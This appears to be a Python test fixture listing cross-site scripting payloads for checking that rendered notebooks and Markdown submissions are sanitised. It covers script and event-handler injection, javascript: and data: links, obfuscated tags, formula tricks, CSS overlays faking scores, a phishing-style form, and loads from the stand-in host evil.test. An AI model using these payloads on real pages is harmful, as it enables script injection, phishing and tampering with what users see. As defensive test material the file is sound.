"""Attacks on the browser of a person who opens a page with a submission.

Each one sets `window.hit`, asks the web for `evil.test`, or would change how the page looks.
"""

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9aw"
    "AAAABJRU5ErkJggg=="
)
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='top.hit=1'><script>top.hit=1</script></svg>"

MARKDOWN = {
    "script": "<script>window.hit=1</script>",
    "script_in_a_line": "text <script>window.hit=1</script> text",
    "script_from_elsewhere": "<script src=http://evil.test/x.js></script>",
    "script_as_module": (
        '<script type="module">import "http://evil.test/x.mjs"; window.hit=1</script>'
    ),
    "picture_that_fails": '<img src="x" onerror="window.hit=1">',
    "picture_in_a_sentence": "see <img src=x onerror=window.hit=1> here",
    "tracking_picture": '<img src="http://evil.test/pixel.png">',
    "tracking_picture_in_markdown": "![me](http://evil.test/pixel.png)",
    "tracking_picture_without_scheme": "![me](//evil.test/pixel.png)",
    "picture_breaking_out_of_its_text": '![" onerror="window.hit=1](x)',
    "picture_breaking_out_of_its_title": "![a](x '\" onerror=\"window.hit=1')",
    "svg": "<svg onload=window.hit=1>",
    "svg_with_script": "<svg><script>window.hit=1</script></svg>",
    "svg_use": '<svg><use href="http://evil.test/x.svg#a"/></svg>',
    "svg_animate": "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>",
    "math_with_style": "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "template": "<template><script>window.hit=1</script></template>",
    "textarea": "</textarea><script>window.hit=1</script>",
    "end_of_the_page": "</body></html><script>window.hit=1</script>",
    "comment": "<!--><script>window.hit=1</script>-->",
    "cdata": "<![CDATA[<script>window.hit=1</script>]]>",
    "processing_instruction": "<?x <script>window.hit=1</script> ?>",
    "half_a_tag": "<img src=x onerror=window.hit=1 ",
    "slash_for_space": "<img/src=x/onerror=window.hit=1>",
    "upper_case": "<ScRiPt>window.hit=1</sCrIpT>",
    "nested": "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "entities": (
        "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x onerror=window.hit=1&#62;"
    ),
    "frame": "<iframe srcdoc='<script>top.hit=1</script>'></iframe>",
    "frame_from_elsewhere": "<iframe src=http://evil.test/></iframe>",
    "frame_with_script": "<iframe src=javascript:top.hit=1></iframe>",
    "object": "<object data=http://evil.test/x></object><embed src=http://evil.test/y>",
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    "base": '<base href="http://evil.test/">',
    "link": (
        '<link rel=stylesheet href=http://evil.test/x.css><link rel=prefetch '
        'href=http://evil.test/p>'
    ),
    "style": (
        "<style>body, .panel { background: rgb(1, 2, 3) !important } #seen { display: none "
        "}</style>"
    ),
    "style_attribute": (
        '<div style="position:fixed;inset:0;background:rgb(1,2,3);z-index:9999">10 / 10</div>'
    ),
    "style_import": "<style>@import url(http://evil.test/x.css);</style>",
    "style_picture": '<p style="background:url(http://evil.test/b.png)">x</p>',
    "class_of_the_page": (
        '<div class="modal-backdrop navbar-fixed-top panel panel-primary">Score: 88 / 88</div>'
    ),
    "id_of_the_page": (
        '<input id="q4-why-relu" class="score tabbable" value="3"><div id="statusmessage">'
        '</div>'
    ),
    "heading_as_id": "# statusmessage",
    "form": '<form action="http://evil.test/"><input name=p><button id=go>Log in</button></form>',
    "focus": "<input autofocus onfocus=window.hit=1>",
    "details": "<details open ontoggle=window.hit=1>x</details>",
    "video": "<video src=http://evil.test/v.mp4 onerror=window.hit=1 autoplay></video>",
    "audio": "<audio src=x onerror=window.hit=1>",
    "marquee": "<marquee onstart=window.hit=1>x</marquee>",
    "link_to_script": (
        '[click](javascript:window.hit=1) <a class=trap href="javascript:window.hit=1">'
        'click</a>'
    ),
    "link_to_script_with_entity": "[click](&#106;avascript:window.hit=1)",
    "link_to_script_with_tab": (
        "[click](java\tscript:window.hit=1) [click](<java&Tab;script:window.hit=1>)"
    ),
    "link_to_script_with_case": "[click](JaVaScRiPt:window.hit=1)",
    "link_to_script_with_space": "[click](< javascript:window.hit=1>)",
    "link_to_script_by_reference": "[click][x]\n\n[x]: javascript:window.hit=1",
    "link_to_script_in_brackets": "<javascript:window.hit=1>",
    "link_to_vbscript": "[click](vbscript:hit)",
    "link_to_data": "[click](data:text/html,<script>top.hit=1</script>)",
    "link_to_a_file": "[click](file:///etc/passwd) [click](evil.html)",
    "link_breaking_out": "[click](https://ok.test/\"onmouseover=\"window.hit=1)",
    "link_breaking_out_of_its_title": "[click](https://ok.test/ '\" onclick=\"window.hit=1')",
    "svg_as_picture": f"![x](data:image/svg+xml,{SVG.replace(' ', '%20')})",
    "attached_svg": "![x](attachment:evil.svg)",
    "attached_nothing": "![x](attachment:lost.png)",
    "attached_name_breaking_out": '![x](attachment:"onerror="window.hit=1)',
    "mermaid": (
        "```mermaid\n<img src=x onerror=window.hit=1>\n</pre><script>window.hit=1</script>\n```"
    ),
    "code_language": '```"><script>window.hit=1</script>\nx\n```',
    "code_language_html": "```html\n<script>window.hit=1</script>\n```",
    "table": "| a |\n|---|\n| <img src=x onerror=window.hit=1> |",
    "formula_link": r"$\href{javascript:window.hit=1}{click}$",
    "formula_with_markup": (
        r"$\text{<script>window.hit=1</script>}$ $$<img src=x onerror=window.hit=1>$$"
    ),
    "formula_with_style": (
        r"$\style{position:fixed;inset:0;background:rgb(1,2,3)}{x}$ "
        r"$\class{navbar-fixed-top}{y}$"
    ),
    "formula_with_attribute": (
        r"$\mathrm{a\" onclick=\"window.hit=1}$ $\color{red\" onclick=\"window.hit=1}{x}$"
    ),
    "formula_environment": "\\begin{align}<script>window.hit=1</script>\\end{align}",
    "formula_wide": r"$\hspace{99999em} x$",
    "deep": ">" * 500 + " deep",
}  # fmt: skip

CODE = {
    "source": "# </pre></div><script>window.hit=1</script><img src=x onerror=window.hit=1>",
    "html": (
        "from IPython.display import HTML\nHTML('<script>window.hit=1</script><img src=x "
        "onerror=window.hit=1>')"
    ),
    "isolated_html": "display({'text/html': '<script>top.hit=1</script>', 'text/plain': 'x'}, "
    "raw=True, metadata={'text/html': {'isolated': True}})",
    "javascript": "from IPython.display import Javascript\nJavascript('window.hit=1')",
    "svg": f'from IPython.display import SVG\nSVG("""{SVG}""")',
    "markdown": "from IPython.display import Markdown\nMarkdown('<script>window.hit=1</script>')",
    "latex": "from IPython.display import Latex\n"
    r"Latex(r'$\\href{javascript:window.hit=1}{x}$<script>window.hit=1</script>')",
    "frame": "from IPython.display import IFrame\nIFrame('http://evil.test/', 100, 100)",
    "picture_from_elsewhere": (
        "from IPython.display import Image\nImage(url='http://evil.test/x.png')"
    ),
    "picture_width": f"display({{'image/png': '{PIXEL}', 'text/plain': 'x'}}, raw=True, "
    "metadata={'image/png': {'width': '1 onload=window.hit=1', "
    "'height': '1 style=position:fixed'}})",
    "picture_file": f"display({{'image/png': '{PIXEL}', 'text/plain': 'x'}}, raw=True, "
    "metadata={'filenames': {'image/png': 'http://evil.test/x.png'}})",
    "picture_that_is_none": (
        "display({'image/png': '\"><script>window.hit=1</script>', 'text/plain': 'x'}, raw=True)"
    ),
    "widget": "display({'application/vnd.jupyter.widget-view+json': "
    "{'model_id': 'x</script><script>window.hit=1'}, "
    "'text/plain': 'x'}, raw=True)",
    "other_type": (
        "display({'text/x-evil': '<script>window.hit=1</script>', 'application/json': {}}, "
        "raw=True)"
    ),
    "print": "print('</pre><script>window.hit=1</script><img src=x onerror=window.hit=1>')",
    "print_to_stderr": "import sys\nprint('</pre><script>window.hit=1</script>', file=sys.stderr)",
    "colours": (
        r"print('\x1b[31m<script>window.hit=1</script>"
        r"\x1b[38;2;1;2;3mx\x1b]8;;javascript:hit\x07y')"
    ),
    "repr": "class R:\n    def __repr__(self): return '</pre><script>window.hit=1</script>'\nR()",
    "repr_html": "class R:\n    def _repr_html_(self): return '<script>window.hit=1</script>'\nR()",
    "error": "class E(Exception): pass\nE.__name__ = '<script>window.hit=1</script>'\n"
    "raise E('</pre><img src=x onerror=window.hit=1>')",
}
ATTACHMENTS = {
    "evil.svg": {
        "image/svg+xml": "PHN2ZyBvbmxvYWQ9InRvcC5oaXQ9MSI+",
        "text/html": "<script>window.hit=1</script>",
    },
    '"onerror="window.hit=1': {"image/png": PIXEL},
}
